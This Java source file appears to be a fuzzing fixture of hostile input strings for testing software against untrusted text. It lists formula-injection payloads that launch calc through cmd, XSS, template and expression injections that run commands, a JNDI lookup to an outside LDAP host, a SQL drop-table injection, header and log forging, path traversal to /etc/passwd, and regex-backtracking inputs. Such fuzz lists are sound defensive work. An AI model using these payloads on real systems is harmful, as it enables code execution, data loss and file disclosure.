package org.safereturns.fuzz;

import java.util.List;

/** Texts that some reader, page, table, terminal or mail program would obey instead of show. */
public final class HostileTexts {
  /** What is written into cells, labels, sheet names, file names and heads of letters. */
  public static final List<String> OBEYED =
      List.of(
          "=HYPERLINK(\"http://example.org/\"&A1,\"x\")",
          "=cmd|' /C calc'!A0",
          "+1+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "\u200b=1+1",
          "＝1+1",
          "</td><script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "\" onmouseover=\"alert(1)",
          "]]><x/><!--",
          "&lt;b&gt;&#x41;",
          "javascript:alert(1)",
          "${7*7}",
          "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
          "#{T(java.lang.Runtime).getRuntime()}",
          "${jndi:ldap://example.org/a}",
          "'; drop table submission; --",
          "a\r\nBcc: everyone@example.org",
          "a\r\n\r\n<html>another body</html>",
          "a\n2026-01-15 12:00:00 WARN  forged line of a log",
          "\u001b[2J\u001b[31mred\u0007",
          "\u202egnp.exe",
          "\u2066a\u2069\u200f",
          "a\u0000b",
          "\ud83d\ude00",
          "../../../../etc/passwd",
          "..\\..\\windows\\system32",
          "CON",
          "%s%n%x{0}",
          "a,b\";c\td|e",
          "a\"b\nc",
          "\ufeffa",
          "\uffff\ufffe",
          "x".repeat(400));

  /** What a number, a date, a place or a size may be made of to hurt who reads it as one. */
  public static final List<String> NUMBERS =
      List.of(
          "0",
          "-0",
          "-1",
          "1e308",
          "1e999999",
          "1e-999999999",
          "0e-999999999",
          "1E+2147483647",
          "-1E-2147483648",
          "NaN",
          "Infinity",
          "999999999999999999",
          "9999999999999999999999",
          "123456789012345678.123456789012345678",
          "0.000000000000000001",
          "2147483647",
          "2147483648",
          "-2147483648",
          "9223372036854775807",
          "1,,,,1",
          "1 2 3",
          "１２３",
          "٣",
          "0x10",
          "1e5",
          "2958465",
          "2958466",
          "-0.5",
          "+999999999-12-31",
          "-999999999-01-01",
          "9999-12-31",
          "0000-01-01",
          "9999/00",
          "9999-12-01/P99M",
          "31/12/9999",
          "A1:XFD1048576",
          "A0",
          "ZZZZZ1",
          "$A$1",
          "1048577",
          "16385",
          "true",
          "");

  /** Texts that make a search for a form start again at each of their letters. */
  public static final List<String> LONG =
      List.of(
          " ".repeat(32_000) + "x",
          "1" + " ".repeat(32_000) + "x",
          "a b ".repeat(8_000),
          "1,".repeat(16_000) + "x",
          "1".repeat(32_000),
          "a".repeat(32_000),
          "(".repeat(32_000),
          "1 (".repeat(10_000),
          "[note 1".repeat(4_000),
          "a1@".repeat(10_000),
          "0 1".repeat(10_000),
          "% of ".repeat(6_000),
          "-".repeat(32_000),
          "q1 ".repeat(10_000),
          "12/".repeat(10_000));

  private HostileTexts() {}
}
